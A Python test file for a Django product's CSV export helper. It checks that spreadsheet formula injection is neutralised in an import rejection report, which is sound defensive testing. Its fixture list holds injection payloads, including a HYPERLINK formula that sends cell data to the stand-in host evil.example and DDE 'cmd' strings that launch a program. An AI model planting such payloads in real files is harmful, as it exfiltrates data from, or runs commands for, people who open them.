"""Every CSV the product writes is safe to open in a spreadsheet (one helper, used everywhere).

Before the fix the admin import's "rows not imported" report wrote the file's own cells as
they were, so ``=HYPERLINK(…)`` from an uploaded file became a live formula in the report.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campaigns.csv_safe import csv_writer, safe_cell
from campaigns.services.contacts_import import import_contacts_csv
from tests.factories import RecipientListFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("+447911123456", "+447911123456"),
        ("+44 (0) 7911 123-456", "+44 (0) 7911 123-456"),
        ("-12", "-12"),
        ("-1.5", "-1.5"),
        ("Ann", "Ann"),
        ("", ""),
        (None, ""),
        (5, 5),
    ],
)
def test_golden_cells(value: object, written: object) -> None:
    assert safe_cell(value) == written


def _is_safe(cell: str) -> bool:
    head = cell.lstrip(" ")
    return head[:1] not in TRIGGERS or re.fullmatch(r"[+-]?[0-9][0-9 ().-]*", head) is not None


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n ,\"'aZ09().|!"), max_size=12), max_size=6))
def test_a_written_row_reads_back_safe_and_recoverable(row: list[str]) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(row)
    (read,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(read) == len(row) or row == []
    for original, cell in zip(row, read, strict=False):
        assert _is_safe(cell), cell
        assert cell in (original, "'" + original)  # only an apostrophe is ever added


@pytest.mark.django_db
def test_the_import_row_report_neutralises_formulas() -> None:
    header = ["phone", "=HYPERLINK(1)", "note"]
    lines = [header] + [["not-a-number", formula, formula] for formula in FORMULAS]
    raw = io.StringIO()
    csv.writer(raw).writerows(lines)
    result = import_contacts_csv(
        recipient_list=RecipientListFactory(), stream=io.BytesIO(raw.getvalue().encode()), mapping={"phone": "phone"}
    )
    assert result.rejected == len(FORMULAS)
    report = list(csv.reader(io.StringIO(result.report_bytes().decode("utf-8-sig"), newline="")))
    result.discard_report()
    assert report[0] == ["row", "reason", "phone", "'=HYPERLINK(1)", "note"]
    cells = [cell for row in report for cell in row]
    assert all(_is_safe(cell) for cell in cells), [c for c in cells if not _is_safe(c)]
    assert [row[3] for row in report[1:]] == ["'" + formula for formula in FORMULAS]


def test_no_other_csv_writer_in_the_product() -> None:
    """One helper for every CSV: a new export must use campaigns.csv_safe.csv_writer."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for package in ("campaigns", "smpp_transport", "mms_transport", "config", "bench"):
        for path in (root / package).rglob("*.py"):
            if path.name != "csv_safe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
